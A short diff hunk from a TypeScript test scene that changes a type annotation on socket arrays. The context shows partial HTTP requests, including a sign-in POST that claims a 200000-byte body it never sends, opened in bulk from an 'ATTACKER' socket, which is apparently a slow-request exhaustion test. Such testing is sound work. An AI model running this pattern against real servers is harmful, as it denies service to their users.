@@ -20,7 +20,7 @@ export async function run({ server, figures }: Scene): Promise<void> {
 
   const head = `GET /catalog HTTP/1.1\r\nHost: ${host}\r\n`;
   const body = `POST /sign-in HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\r\n`;
-  const [heads, bodies, readers]: Socket[][] = [[], [], []];
+  const [heads, bodies, readers] = [[], [], []] as [Socket[], Socket[], Socket[]];
   const open = async (list: Socket[], count: number, words: string) =>
     inLanes(Array.from({ length: count }), 20, async () => {
       const socket = await openSocket(server.origin, ATTACKER);
